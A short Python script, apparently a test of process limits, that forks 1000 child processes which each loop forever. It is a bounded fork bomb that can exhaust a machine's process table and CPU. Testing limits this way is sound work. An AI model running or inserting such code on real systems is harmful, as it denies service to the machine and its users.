"""Forks without end. Ended as soon as there are too many."""

import os

for _ in range(1000):
    if os.fork() == 0:
        while True:
            pass
